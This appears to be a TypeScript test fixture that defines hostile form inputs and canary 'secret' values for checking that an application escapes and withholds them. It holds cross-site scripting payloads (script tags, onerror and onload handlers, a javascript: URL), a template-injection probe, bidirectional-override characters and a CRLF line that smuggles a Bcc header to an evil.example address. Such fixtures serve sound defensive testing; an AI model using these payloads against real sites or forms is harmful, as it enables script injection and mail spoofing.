// What hostile people write.

export const SCRIPT = '"><script>alert(1)</script>';

/** Each stands in what somebody wrote, and nowhere else: not in an address of ours, not in a log. */
export const SECRETS = {
  name: 'Mallory-of-the-Marsh',
  staff: 'Clerk-of-the-Marsh',
  lines: 'Lane-of-Secrets',
  city: 'Secretville',
  message: 'whispered-words',
  email: 'mallory@secret.example',
  typed: 'typed@secret.example',
  sender: 'sender@secret.example',
  phone: '7946 0',
} as const;

export const hostile = (mark: string) => `${SCRIPT}{{7*7}} ${mark}`;

export const ADDRESS = {
  lines: [hostile(SECRETS.lines), '\'><img src=x onerror="alert(2)">'],
  city: hostile(SECRETS.city),
  region: 'javascript:alert(1)',
  postalCode: 'OX1 4AA',
  country: 'GB',
};

/** One line that turns what follows it around. */
export const LINE = `${hostile(SECRETS.message)}</title>\u202e\u2066=1+1`;

/** Several lines, one of which would be a header. */
export const MESSAGE = `${hostile(SECRETS.message)}</textarea></title><svg/onload=alert(3)>\r\nBcc: all@evil.example\u202e`;

/** An option's name and value, and how the staff type it. */
export const TYPED = ['<b>colour', '"><i>red'] as const;
export const TYPED_OPTION = TYPED.join('=');
